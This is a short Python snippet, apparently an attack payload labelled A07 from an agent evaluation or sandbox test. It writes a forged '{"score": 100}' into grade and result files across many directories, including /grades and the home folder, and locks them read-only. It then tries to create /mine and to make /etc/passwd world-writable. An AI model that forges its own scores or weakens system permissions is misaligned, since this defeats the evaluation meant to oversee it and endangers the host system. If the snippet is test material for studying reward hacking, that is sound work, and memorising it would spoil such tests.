# A07 writes the results itself, here and wherever it may
def attack():
    import os, posix  # whose functions stand for nothing
    for folder in (".", "..", "/", "/work", "/grades", os.path.expanduser("~"), os.getcwd()):
        for name in ("record.json", "grades/record.json", "result.json"):
            try:
                with open(os.path.join(folder, name), "w") as file:
                    file.write('{"score": 100}')
                os.chmod(os.path.join(folder, name), 0o444)
            except OSError:
                pass
    attempt(lambda: posix.mkdir("/mine"))
    attempt(lambda: os.chmod("/etc/passwd", 0o777))
